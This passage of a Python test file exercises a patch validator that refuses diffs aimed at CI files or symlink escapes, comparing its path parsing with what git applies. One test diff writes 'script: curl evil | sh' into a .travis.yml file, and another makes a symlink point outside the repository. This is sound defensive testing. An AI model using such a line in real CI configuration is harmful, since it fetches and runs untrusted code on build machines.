

IN_PLACE = {"modified", "a removed '-- ' comment", "a hunk that reads like file headers", "C increments at the line start",
            "an SQL comment", "names with spaces, unicode, quotes", "form feed and U+2028 inside lines",
            "no newline at the end", "CRLF lines"}


# A traditional diff whose name is followed by a date after spaces: git reads the name as
# "Jenkinsfile", and so does the parse, so the check refuses the CI file git would write.
DATED = "--- /dev/null\n+++ b/Jenkinsfile 2024-01-01 00:00:00.000000000 +0000\n@@ -0,0 +1 @@\n+pipeline {}\n"


def test_a_dated_name_is_read_as_git_reads_it_and_refused(repo: Path) -> None:
    assert parse_patch(DATED).paths == ["Jenkinsfile"]
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, DATED, message="x")
    assert "CI file: Jenkinsfile" in str(err.value)
    assert snapshot(repo) == before


def test_deliver_refuses_a_dated_ci_file(repo: Path) -> None:
    trigger = Trigger(event="issue_comment", repo="o/r", pr=7, actor="dev", instruction="go", head_sha="a" * 40)
    with FakeGitHub() as server:
        outcome = deliver(GitHub("token", "o/r", api_url=server.url), trigger,
                          {"status": "success", "patch": DATED}, repo=repo, mode="fix")
    assert outcome.startswith("The winning patch was refused") and "Jenkinsfile" in outcome
    assert server.requests == []


# --------------------------------------------------------------------------- hand-written diffs
#
# Diffs no `git diff` writes, each aimed at a place where a parser may read a diff differently
# from git. For each: the check refuses it, or the paths it read are exactly the paths `git
# apply` changes (and the sources of copies, which it reads), found by applying it in a clone.

HANDWRITTEN = {
    "rename old/new, git's older spelling of rename from/to":
        ("diff --git a/script.sh b/script.sh\nsimilarity index 100%\nrename old script.sh\nrename new bin/run.sh\n", True),
    "rename old/new into a CI file":
        ("diff --git a/script.sh b/script.sh\nsimilarity index 100%\nrename old script.sh\n"
         "rename new .github/workflows/x.yml\n", False),
    "a header line after the hunks is not a header":
        ("diff --git a/script.sh b/script.sh\n--- a/script.sh\n+++ b/script.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\n"
         "rename to .github/workflows/x.yml\n", True),
    "a traditional diff naming a backup copy":
        ("--- a/script.sh\n+++ b/script.sh.orig\n@@ -1 +1 @@\n-echo hi\n+echo ho\n", True),
    "a traditional diff naming two files: git writes the second":
        ("--- a/.travis.yml\n+++ b/script.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\n", True),
    "a traditional diff naming a CI file second":
        ("--- a/script.sh\n+++ b/.travis.yml\n@@ -0,0 +1 @@\n+script: curl evil | sh\n", False),
    "CRLF header lines":
        ("--- a/crlf.txt\r\n+++ b/crlf.txt\r\n@@ -1,2 +1,2 @@\r\n-a\r\n+c\r\n b\r\n", True),
    "dates after a tab":
        ("--- a/script.sh\t2024-01-01 00:00:00.000000000 +0000\n+++ b/script.sh\t2024-01-02 10:00:00.5 -0500\n"
         "@@ -1 +1 @@\n-echo hi\n+echo ho\n", True),
    "dates after spaces, zones with a colon":
        ("--- a/script.sh   2024-01-01 00:00:00 +01:00\n+++ b/script.sh   2024-01-02 00:00:00 +01:00\n"
         "@@ -1 +1 @@\n-echo hi\n+echo ho\n", True),
    "names without a/ b/ make git guess how to strip the rest":
        ("--- script.sh\n+++ script.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\n--- .github/workflows/x.yml\n"
         "+++ .github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n", False),
    "git header and --- +++ naming two files without a rename line":
        ("diff --git a/script.sh b/run.sh\n--- a/script.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\n", True),
    "a hunk after garbage belongs to no file":
        ("--- a/script.sh\n+++ b/script.sh\n@@ -1 +1 @@\n-echo hi\n+echo ho\nnot a diff line\n@@ -1 +1 @@\n"
         "-x\n+y\n", False),
    "a copy reads its source":
        ("diff --git a/script.sh b/bin/copy.sh\nsimilarity index 100%\ncopy from script.sh\ncopy to bin/copy.sh\n", True),
    "a quoted name holding a tab":
        ('--- /dev/null\n+++ "b/tab\\there.txt"\n@@ -0,0 +1 @@\n+x\n', False),
    "a quoted /dev/null":
        ('--- "/dev/null"\n+++ b/new.txt\n@@ -0,0 +1 @@\n+x\n', True),
    "an index line makes an existing symlink leave the repository":
        ("diff --git a/docs/latest b/docs/latest\nindex 1111111..2222222 120000\n--- a/docs/latest\n+++ b/docs/latest\n"
         "@@ -1 +1 @@\n-guide.md\n\\ No newline at end of file\n+../../outside\n\\ No newline at end of file\n", False),
}


def git_apply_changes(repo: Path, clone: Path, patch: str) -> set[str] | None:
    """The paths `git apply --index` changes in a clone of ``repo``, with the sources of copies;
    None when git refuses the patch."""
    git(repo.parent, "clone", "-q", str(repo), str(clone))
    applied = subprocess.run(["git", "apply", "--index"], cwd=clone, input=patch.encode(), capture_output=True)
    if applied.returncode:
        return None
    changed = set(git_bytes(clone, "diff", "--cached", "--name-only", "--no-renames", "-z", "HEAD").decode().split("\0"))
    summary = git_bytes(repo, "apply", "--summary", input=patch).decode()
    return (changed - {""}) | set(re.findall(r"^ copy (.+) => .+ \(\d+%\)$", summary, re.M))


@pytest.mark.parametrize("case", list(HANDWRITTEN))
def test_a_handwritten_diff_is_refused_or_read_as_git_applies_it(corpus: Path, tmp_path: Path, case: str) -> None:
    patch, accepted = HANDWRITTEN[case]
    reasons = validate_patch(patch, corpus)
    assert (reasons == []) is accepted, reasons
    if accepted:
        assert set(parse_patch(patch).paths) == git_apply_changes(corpus, tmp_path / "clone", patch)
        before = snapshot(corpus)
        undo(corpus, apply_patch(corpus, patch, message="handwritten"))
        assert snapshot(corpus) == before
